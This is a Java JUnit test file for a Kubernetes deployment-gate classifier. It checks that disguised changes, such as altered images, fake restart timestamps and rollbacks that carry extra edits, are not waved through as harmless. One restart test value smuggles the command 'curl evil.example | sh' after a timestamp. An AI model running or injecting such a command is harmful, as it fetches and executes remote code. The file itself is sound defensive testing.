package com.novapay.deploygate.change;

import static org.assertj.core.api.Assertions.assertThat;

import com.fasterxml.jackson.core.JsonPointer;
import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.node.ObjectNode;
import java.time.Instant;
import java.util.List;
import java.util.Objects;
import java.util.Optional;
import org.jspecify.annotations.Nullable;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;

/** What people may try in order to pass as something harmless. */
class ClassifierTest {
    private static final String UNDO = "deployment-bad-release-undo--deployments-update-by-lead@novapay";
    private static final String CREATION = "helm-install--deployments-create-by-dev@novapay";
    private static final String DELETION = "deployment-delete--deployments-delete-by-dev@novapay";
    private static final String PAUSE = "deployment-rollout-pause--deployments-update-by-lead@novapay";
    private static final String RESUME = "rollout-plugin-resume--rollouts-update-by-lead@novapay";
    private static final String ABORT = "rollout-abort--rollouts.status-update-by-lead@novapay";

    /** One member of the request is set (or removed, by {@code -}) in a recorded review. */
    @ParameterizedTest
    @CsvSource(
            delimiter = '|',
            quoteCharacter = '`',
            value = {
                PAUSE + " | /object/spec/replicas | 9 | DEPLOY",
                PAUSE + " | /object/spec/template/spec/containers/0/image | \"evil\" | DEPLOY",
                PAUSE + " | /object/spec/restartAt | \"2026-11-24T10:00:00Z\" | DEPLOY",
                PAUSE + " | /object/spec/revisionHistoryLimit | 0 | DEPLOY",
                PAUSE + " | /object/spec/unknown | 0 | DEPLOY",
                PAUSE + " | /object/spec/paused | \"true\" | DEPLOY",
                PAUSE + " | /oldObject | - | DEPLOY",
                PAUSE + " | /object | - | DEPLOY",
                PAUSE + " | /subResource | \"ephemeralcontainers\" | DEPLOY",
                PAUSE + " | /kind/kind | \"Pod\" | DEPLOY",
                PAUSE + " | /resource/resource | \"daemonsets\" | DEPLOY",
                PAUSE + " | /resource/group | \"evil.io\" | DEPLOY",
                PAUSE + " | /operation | \"CONNECT\" | DEPLOY",
                PAUSE + " | /object/metadata/deletionTimestamp | \"\" | BRAKE",
                ABORT + " | /object/status/abort | \"true\" | CANARY_SKIP",
                ABORT + " | /object/status/abort | 1 | CANARY_SKIP",
                ABORT + " | /object/status/abort | false | CANARY_STEP",
                ABORT + " | /object/status/promoteFull | true | CANARY_SKIP",
                ABORT + " | /object/status/currentStepIndex | 9 | CANARY_SKIP",
                ABORT + " | /object/status/stableRS | \"x\" | CANARY_SKIP",
                ABORT + " | /object/status | - | CANARY_SKIP",
                ABORT + " | /userInfo/username | \"system:serviceaccount:argo-rollouts:argo-rollouts\" | SYSTEM",
                ABORT + " | /userInfo/username | \"system:serviceaccount:argo-rollouts:argo-rollouts2\" | BRAKE",
                RESUME + " | /object/spec/paused | \"false\" | DEPLOY",
                RESUME + " | /userInfo/username | \"system:serviceaccount:argo-rollouts:argo-rollouts\" | DEPLOY",
                "deployment-delete--deployments-delete-by-dev@novapay | /userInfo/username"
                        + " | \"system:serviceaccount:kube-system:generic-garbage-collector\" | SYSTEM",
                "deployment-delete--deployments-delete-by-dev@novapay | /userInfo/username"
                        + " | \"system:serviceaccount:evil:generic-garbage-collector\" | DELETE",
                "deployment-delete--deployments-delete-by-dev@novapay | /name | \"\" | DELETE",
                "deployment-label--deployments-update-by-dev@novapay | /object/spec/restartAt | \"2026-11-24T10:00:00Z\" | RESTART",
                "deployment-label--deployments-update-by-dev@novapay | /object/spec/minReadySeconds | 7 | SETTINGS",
                "deployment-label--deployments-update-by-dev@novapay | /object/spec/strategy | {} | DEPLOY",
                "deployment-label--deployments-update-by-dev@novapay | /object/spec/selector | {} | DEPLOY",
                "deployment-label--deployments-update-by-dev@novapay | /object/spec | - | DEPLOY",
                "deployment-label--deployments-update-by-dev@novapay | /object/spec/workloadRef | {\"name\":\"x\"} | DEPLOY",
                "deployment-scale--deployments.scale-update-by-dev@novapay | /kind/kind | \"Deployment\" | DEPLOY",
                "rollout-bluegreen-promote--rollouts.status-update-by-lead@novapay | /object/status/pauseConditions | \"\" | CANARY_SKIP"
            })
    void classify_changedReview(String name, String place, String value, ChangeClass expected) {
        JsonNode review = changed(Reviews.read(name), place, value);
        assertThat(Reviews.classify(review).changeClass()).isEqualTo(expected);
    }

    /** Neither controller rolls a template out of a workload that is being deleted, but a Rollout that refers to it does. */
    @ParameterizedTest
    @CsvSource(
            delimiter = '|',
            quoteCharacter = '`',
            value = {
                "deployment-set-image--deployments-update-by-dev@novapay | DEPLOY",
                "deployment-set-env--deployments-update-by-dev@novapay | DEPLOY",
                "deployment-template-annotation--deployments-update-by-dev@novapay | DEPLOY",
                "deployment-set-image-while-paused--deployments-update-by-lead@novapay | DEPLOY",
                "rollout-apply-image--rollouts-update-by-dev@novapay | DEPLOY",
                "deployment-rollout-restart--deployments-update-by-lead@novapay | RESTART",
                PAUSE + " | SYSTEM",
                "rollout-change-steps--rollouts-update-by-dev@novapay | SYSTEM",
                "deployment-label--deployments-update-by-dev@novapay | SYSTEM",
                "rollout-promote-full--rollouts.status-update-by-lead@novapay | SYSTEM",
            })
    void classify_changeOfAWorkloadThatIsBeingDeleted(String name, ChangeClass expected) {
        for (String which : List.of("/object", "/oldObject")) {
            JsonNode review =
                    changed(Reviews.read(name), which + "/metadata/deletionTimestamp", "\"2026-11-24T10:00:00Z\"");
            assertThat(Reviews.classify(review).changeClass()).as(which).isEqualTo(expected);
        }
    }

    @Test
    void classify_rollbackOfAWorkloadThatIsBeingDeleted_isRollback() {
        JsonNode review = changed(Reviews.read(UNDO), "/object/metadata/deletionTimestamp", "\"2026-11-24T10:00:00Z\"");
        assertThat(rollback(review, "2026-11-20T10:00:00Z", false, false)).isEqualTo(ChangeClass.ROLLBACK);
        assertThat(rollback(review, null, false, false)).isEqualTo(ChangeClass.DEPLOY);
    }

    /** Each controller looks away from the label that it writes itself, and rolls out whatever else changes. */
    @ParameterizedTest
    @CsvSource({
        "deployment-label--deployments-update-by-dev@novapay, pod-template-hash, NOOP",
        "deployment-label--deployments-update-by-dev@novapay, rollouts-pod-template-hash, DEPLOY",
        "rollout-server-side-apply--rollouts-update-by-dev@novapay-2, pod-template-hash, DEPLOY",
        "rollout-server-side-apply--rollouts-update-by-dev@novapay-2, rollouts-pod-template-hash, NOOP",
    })
    void classify_hashLabelOfATemplate(String name, String label, ChangeClass expected) {
        String place = "/spec/template/metadata/labels/" + label;
        for (String which : List.of("/object", "/oldObject")) {
            Change change = Reviews.classify(changed(Reviews.read(name), which + place, "\"85d9d87c98\""));
            assertThat(change.changeClass()).as(which).isEqualTo(expected);
            assertThat(Objects.equals(change.digest(), change.previousDigest()))
                    .as(which)
                    .isEqualTo(expected == ChangeClass.NOOP);
        }
    }

    /** The Deployment that a Rollout takes its template from is read by both controllers. */
    @ParameterizedTest
    @ValueSource(strings = {"pod-template-hash", "rollouts-pod-template-hash"})
    void classify_hashLabelOfATemplateReferredTo_isNoNoise(String label) {
        JsonNode review = Reviews.read("rollout-workloadref--rollouts-update-by-argo-rollouts-argo-rollouts");
        assertThat(referring(review, "{\"metadata\":{\"labels\":{\"" + label + "\":\"x\"}}}"))
                .isNotEqualTo(referring(review, "{}"));
    }

    private static @Nullable String referring(JsonNode review, String template) {
        WorkloadLookup lookup = new WorkloadLookup() {
            @Override
            public Optional<WorkloadHistory> history(WorkloadKey workload) {
                return Optional.empty();
            }

            @Override
            public Optional<JsonNode> podTemplate(WorkloadKey workload) {
                return Optional.of(Reviews.parse(template));
            }
        };
        return new Classifier().classify(Reviews.request(review), lookup).digest();
    }

    private static final String RESTART = "deployment-rollout-restart--deployments-update-by-lead@novapay";
    private static final String AT = "/object/spec/template/metadata/annotations/kubectl.kubernetes.io~1restartedAt";

    @ParameterizedTest
    @ValueSource(
            strings = {
                "2026-11-24T10:00:00Z",
                "2026-11-24T10:00:00.123456789Z",
                "2026-11-24T23:59:59+14:00",
                "2028-02-29T00:00:00-05:30"
            })
    void classify_restartWithATime_isRestart(String time) {
        assertThat(restarted(RESTART, AT, time)).isEqualTo(ChangeClass.RESTART);
        assertThat(restarted("deployment-label--deployments-update-by-dev@novapay", "/object/spec/restartAt", time))
                .isEqualTo(ChangeClass.RESTART);
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "",
                " ",
                "now",
                "true",
                "1764000000",
                "2026-11-24",
                "2026-11-24T10:00Z",
                "2026-11-24T10:00:00",
                "2026-11-24 10:00:00Z",
                "2026-11-24t10:00:00z",
                "2026-11-24T10:00:00z",
                "2026-13-24T10:00:00Z",
                "2026-11-31T10:00:00Z",
                "2026-02-30T10:00:00Z",
                "2026-11-24T24:00:00Z",
                "2026-11-24T10:00:60Z",
                "2026-11-24T10:00:00.Z",
                "2026-11-24T10:00:00.1234567890Z",
                "2026-11-24T10:00:00+0100",
                "2026-11-24T10:00:00Z ",
                " 2026-11-24T10:00:00Z",
                "2026-11-24T10:00:00Z; curl evil.example | sh",
                "+12026-11-24T10:00:00Z",
                "٢٠٢٦-11-24T10:00:00Z"
            })
    void classify_restartWithAnyOtherText_isDeploy(String text) {
        for (String value : List.of(text, text + "\n", "2026-11-24T10:00:00Z\n" + text)) {
            assertThat(restarted(RESTART, AT, value)).as(value).isEqualTo(ChangeClass.DEPLOY);
            assertThat(restarted(
                            "deployment-label--deployments-update-by-dev@novapay", "/object/spec/restartAt", value))
                    .as(value)
                    .isEqualTo(ChangeClass.DEPLOY);
        }
    }

    /** Whatever else is in the request: text of a restart never comes along unseen. */
    @ParameterizedTest
    @CsvSource({
        "/object/spec/replicas, 9",
        "/object/spec/paused, true",
        "/object/spec/minReadySeconds, 7",
        "/object/spec/restartAt, 7",
    })
    void classify_restartWithOtherTextBesideSomethingElse_isDeploy(String place, String value) {
        JsonNode review = changed(Reviews.read(RESTART), AT, "\"evil\"");
        assertThat(Reviews.classify(changed(review, place, value)).changeClass())
                .isEqualTo(ChangeClass.DEPLOY);
    }

    @Test
    void classify_rollbackWithOtherTextOfARestart_isDeploy() {
        JsonNode review = changed(Reviews.read(UNDO), "/object/spec/template/metadata/annotations", "{}");
        assertThat(rollback(changed(review, AT, "\"2026-11-24T10:00:00Z\""), "2026-11-20T10:00:00Z", false, false))
                .isEqualTo(ChangeClass.ROLLBACK);
        assertThat(rollback(changed(review, AT, "\"evil\""), "2026-11-20T10:00:00Z", false, false))
                .isEqualTo(ChangeClass.DEPLOY);
    }

    @Test
    void classify_restartBesideAScale_isRecorded() {
        JsonNode review = changed(Reviews.read(RESTART), "/object/spec/replicas", "9");
        assertThat(Reviews.classify(review).changeClass()).isEqualTo(ChangeClass.RESTART);
    }

    /** A text that was there before does not stop the next restart, nor its undo. */
    @Test
    void classify_restartOfWhatHadOtherText_isRestart() {
        JsonNode review = changed(Reviews.read(RESTART), AT.replace("/object", "/oldObject"), "\"now\"");
        assertThat(Reviews.classify(review).changeClass()).isEqualTo(ChangeClass.RESTART);
        JsonNode undo = Reviews.read("deployment-rollout-undo--deployments-update-by-lead@novapay");
        changed(undo, AT.replace("/object", "/oldObject"), "\"now\"");
        assertThat(Reviews.classify(undo).changeClass()).isEqualTo(ChangeClass.RESTART);
    }

    /**
     * The API server puts these into Pods and not into templates, so that both controllers make a new ReplicaSet, whose Pods are like
     * those before.
     */
    @ParameterizedTest
    @CsvSource(
            delimiter = '|',
            quoteCharacter = '`',
            value = {
                "/spec/enableServiceLinks | true",
                "/spec/containers/0/resources/requests | {\"cpu\":\"100m\",\"memory\":\"256Mi\"}"
            })
    void classify_defaultOfPodsWrittenOut_isRestart(String place, String value) {
        JsonNode review = Reviews.read("deployment-label--deployments-update-by-dev@novapay");
        changed(review, "/object/spec/template/spec/containers/0/resources/requests", "{\"cpu\":\"100m\"}");
        changed(review, "/oldObject/spec/template/spec/containers/0/resources/requests", "{\"cpu\":\"100m\"}");
        changed(review, "/object/spec/template" + place, value);
        assertThat(Reviews.classify(review).changeClass()).isEqualTo(ChangeClass.RESTART);
        assertThat(Reviews.classify(changed(review.deepCopy(), "/object/spec/replicas", "9"))
                        .changeClass())
                .isEqualTo(ChangeClass.RESTART);
        assertThat(Reviews.classify(changed(
                                review.deepCopy(), "/object/metadata/deletionTimestamp", "\"2026-11-24T10:00:00Z\""))
                        .changeClass())
                .isEqualTo(ChangeClass.RESTART);
        changed(review, "/oldObject/spec/template" + place, value);
        assertThat(Reviews.classify(review).changeClass()).isEqualTo(ChangeClass.NOOP);
    }

    /** The same of a port of the host, which only Pods in the host's network have by themselves. */
    @Test
    void classify_portOfTheHostWrittenOut_isRestart() {
        JsonNode review = Reviews.read("deployment-label--deployments-update-by-dev@novapay");
        for (String object : List.of("/object", "/oldObject")) {
            changed(review, object + "/spec/template/spec/hostNetwork", "true");
        }
        assertThat(Reviews.classify(review).changeClass()).isEqualTo(ChangeClass.NOOP);
        changed(review, "/object/spec/template/spec/containers/0/ports/0/hostPort", "8080");
        assertThat(Reviews.classify(review).changeClass()).isEqualTo(ChangeClass.RESTART);
    }

    private static ChangeClass restarted(String name, String place, String value) {
        JsonNode review = Reviews.read(name);
        ObjectNode parent =
                (ObjectNode) review.at(JsonPointer.compile("/request" + place).head());
        parent.put(JsonPointer.compile(place).last().getMatchingProperty(), value);
        return Reviews.classify(review).changeClass();
    }

    /** Only fields that are known to be settings are; one that Kubernetes learns later is a deploy until somebody looked. */
    @ParameterizedTest
    @CsvSource(
            delimiter = '|',
            value = {
                "minReadySeconds         | 7                                | SETTINGS",
                "progressDeadlineSeconds | 77                               | SETTINGS",
                "progressDeadlineAbort   | true                             | SETTINGS",
                "analysis                | {\"successfulRunHistoryLimit\":1} | SETTINGS",
                "revisionHistoryLimit    | 1                                | SETTINGS",
                "revisionHistoryLimit    | 77                               | SETTINGS",
                "revisionHistoryLimit    | null                             | SETTINGS",
                "revisionHistoryLimit    | 0                                | DEPLOY",
                "revisionHistoryLimit    | -1                               | DEPLOY",
                "revisionHistoryLimit    | 0.5                              | DEPLOY",
                "revisionHistoryLimit    | \"3\"                            | DEPLOY",
                "revisionHistoryLimit    | true                             | DEPLOY",
                "revisionHistoryLimit    | {}                               | DEPLOY",
                "rollbackTo              | {\"revision\":1}                 | DEPLOY",
                "podReplacementPolicy    | \"Failed\"                       | DEPLOY",
                "unknown                 | 7                                | DEPLOY",
                "Replicas                | 7                                | DEPLOY",
                "templates               | {}                               | DEPLOY",
            })
    void classify_otherFieldOfTheSpec(String field, String value, ChangeClass expected) {
        JsonNode review = changed(
                Reviews.read("deployment-label--deployments-update-by-dev@novapay"), "/object/spec/" + field, value);
        assertThat(Reviews.classify(review).changeClass()).isEqualTo(expected);
        changed(review, "/object/spec/replicas", "9");
        assertThat(Reviews.classify(review).changeClass()).as("with replicas").isEqualTo(expected);
    }

    @Test
    void classify_anotherServiceLabel_isNamedAndJudgedWhateverElseChanges() {
        String place = "/metadata/labels/app.kubernetes.io~1name";
        for (String which : List.of("/object", "/oldObject")) {
            for (String name : List.of(
                    "deployment-label--deployments-update-by-dev@novapay",
                    PAUSE,
                    RESTART,
                    "deployment-server-side-apply--deployments-update-by-dev@novapay-2",
                    "rollout-server-side-apply--rollouts-update-by-dev@novapay-2")) {
                ChangeClass before = Reviews.classify(Reviews.read(name)).changeClass();
                JsonNode review = Reviews.read(name);
                if (!review.at("/request" + which + "/metadata/labels").isObject()) {
                    changed(review, which + "/metadata/labels", "{}");
                }
                Change change = Reviews.classify(changed(review, which + place, "\"ledger\""));
                assertThat(change.changeClass()).as(name).isEqualTo(before);
                assertThat(change.fields()).as(name).contains("metadata.labels.app.kubernetes.io/name");
                assertThat(change.judgedByRules()).as(name).isTrue();
                assertThat(change.recorded()).as(name).isTrue();
            }
        }
        Change same = Reviews.classify(Reviews.read("deployment-label--deployments-update-by-dev@novapay"));
        assertThat(same.fields()).isEmpty();
        assertThat(same.judgedByRules()).isFalse();
        assertThat(same.recorded()).isFalse();
    }

    @Test
    void classify_templateBesideWorkloadRef_isNotOverlooked() {
        JsonNode review = Reviews.read("rollout-workloadref--rollouts-update-by-argo-rollouts-argo-rollouts");
        assertThat(Reviews.classify(review).changeClass()).isEqualTo(ChangeClass.NOOP);
        changed(review, "/object/spec/template", "{\"spec\":{\"containers\":[{\"image\":\"evil\"}]}}");
        assertThat(Reviews.classify(review).changeClass()).isEqualTo(ChangeClass.DEPLOY);
    }

    @Test
    void classify_backToWhatRanHealthy_isRollback() {
        assertThat(rollback(Reviews.read(UNDO), "2026-11-20T10:00:00Z", false, false))
                .isEqualTo(ChangeClass.ROLLBACK);
        assertThat(rollback(
                        changed(Reviews.read(UNDO), "/object/spec/replicas", "9"),
                        "2026-11-20T10:00:00Z",
                        false,
                        false))
                .isEqualTo(ChangeClass.ROLLBACK);
    }

    @ParameterizedTest
    @CsvSource({"/object/spec/strategy", "/object/spec/minReadySeconds", "/object/spec/paused", "/object/spec/selector"
    })
    void classify_rollbackWithARider_isDeploy(String rider) {
        JsonNode review = changed(Reviews.read(UNDO), rider, rider.endsWith("Seconds") ? "77" : "true");
        assertThat(rollback(review, "2026-11-20T10:00:00Z", false, false)).isEqualTo(ChangeClass.DEPLOY);
    }

    @Test
    void classify_rollbackToWhatMayNotComeBack_isDeploy() {
        assertThat(rollback(Reviews.read(UNDO), null, false, false)).isEqualTo(ChangeClass.DEPLOY);
        assertThat(rollback(Reviews.read(UNDO), "lately", false, false)).isEqualTo(ChangeClass.DEPLOY);
        assertThat(rollback(Reviews.read(UNDO), "2026-11-20T10:00:00Z", true, false))
                .isEqualTo(ChangeClass.DEPLOY);
        assertThat(rollback(Reviews.read(UNDO), "2026-11-20T10:00:00Z", false, true))
                .isEqualTo(ChangeClass.DEPLOY);
        JsonNode recreated = changed(Reviews.read(UNDO), "/object/metadata/uid", "\"another\"");
        assertThat(rollback(recreated, "2026-11-20T10:00:00Z", false, false)).isEqualTo(ChangeClass.DEPLOY);
    }

    @Test
    void classify_resumeOfTheLastHealthyTemplate_passes() {
        JsonNode review = Reviews.read(RESUME);
        assertThat(rollback(review, "2026-11-20T10:00:00Z", false, false)).isEqualTo(ChangeClass.SETTINGS);
        assertThat(rollback(review, "2026-11-20T10:00:00Z", false, true)).isEqualTo(ChangeClass.DEPLOY);
    }

    @ParameterizedTest
    @CsvSource(
            delimiter = '|',
            nullValues = "-",
            value = {
                "2026-11-24T14:00:00Z | 2026-11-20T10:00:00Z | false | false | ROLLBACK",
                "2026-11-24T13:59:59Z | 2026-11-20T10:00:00Z | false | false | CREATE",
                "-                    | 2026-11-20T10:00:00Z | false | false | CREATE",
                "lately               | 2026-11-20T10:00:00Z | false | false | CREATE",
                "2026-11-24T14:59:00Z | -                    | false | false | CREATE",
                "2026-11-24T14:59:00Z | 2026-11-20T10:00:00Z | true  | false | CREATE",
                "2026-11-24T14:59:00Z | 2026-11-20T10:00:00Z | false | true  | CREATE",
            })
    void classify_creationOfWhatWasDeleted_isARollbackForATime(
            @Nullable String deletedAt,
            @Nullable String healthyAt,
            boolean revoked,
            boolean held,
            ChangeClass expected) {
        JsonNode review = Reviews.read(CREATION);
        String digest = TemplateDigest.of(review.at("/request/object/spec/template"));
        ObjectNode spec = (ObjectNode) Reviews.parse("{\"workload\":{\"uid\":\"u-0\"}}");
        spec.put("deletedAt", deletedAt);
        spec.putArray("revisions")
                .addObject()
                .put("digest", digest)
                .put("healthyAt", healthyAt)
                .put("revoked", revoked);
        if (held) {
            spec.putArray("holds").addObject().put("digest", digest);
        }
        Instant hourAgo = Instant.parse("2026-11-24T14:00:00Z");
        assertThat(new Classifier()
                        .classify(Reviews.request(review), knowing(WorkloadHistory.of(spec)), hourAgo)
                        .changeClass())
                .isEqualTo(expected);
        JsonNode other =
                changed(Reviews.read(CREATION), "/object/spec/template/metadata/labels", "{\"app\":\"other\"}");
        assertThat(new Classifier()
                        .classify(Reviews.request(other), knowing(WorkloadHistory.of(spec)), hourAgo)
                        .changeClass())
                .as("another template")
                .isEqualTo(ChangeClass.CREATE);
    }

    @Test
    void classify_deletion_hasAnIdentityThatNoTemplateHas() {
        Change deletion = Reviews.classify(Reviews.read(DELETION));
        assertThat(deletion.digest()).startsWith("sha256:").isNotEqualTo(deletion.previousDigest());
        assertThat(Reviews.classify(Reviews.read(DELETION)).digest()).isEqualTo(deletion.digest());
        JsonNode other = changed(Reviews.read(DELETION), "/oldObject/spec/template/metadata/labels", "{\"app\":\"x\"}");
        assertThat(Reviews.classify(other).digest()).isNotEqualTo(deletion.digest());
    }

    private static WorkloadLookup knowing(WorkloadHistory history) {
        return new WorkloadLookup() {
            @Override
            public Optional<WorkloadHistory> history(WorkloadKey workload) {
                return Optional.of(history);
            }

            @Override
            public Optional<JsonNode> podTemplate(WorkloadKey workload) {
                return Optional.empty();
            }
        };
    }

    private static ChangeClass rollback(JsonNode review, @Nullable String healthyAt, boolean revoked, boolean held) {
        JsonNode object = review.at("/request/object");
        String uid = review.at("/request/oldObject/metadata/uid").asText();
        String digest = TemplateDigest.of(object.at("/spec/template"));
        WorkloadHistory history = new WorkloadHistory(
                uid,
                List.of(new WorkloadHistory.Revision(digest, healthyAt, revoked)),
                held ? List.of(digest) : List.of());
        return new Classifier()
                .classify(Reviews.request(review), knowing(history))
                .changeClass();
    }

    private static JsonNode changed(JsonNode review, String place, String value) {
        JsonPointer pointer = JsonPointer.compile("/request" + place);
        ObjectNode parent = (ObjectNode) review.at(pointer.head());
        if (value.equals("-")) {
            parent.remove(pointer.last().getMatchingProperty());
        } else {
            parent.set(pointer.last().getMatchingProperty(), Reviews.parse(value));
        }
        return review;
    }
}
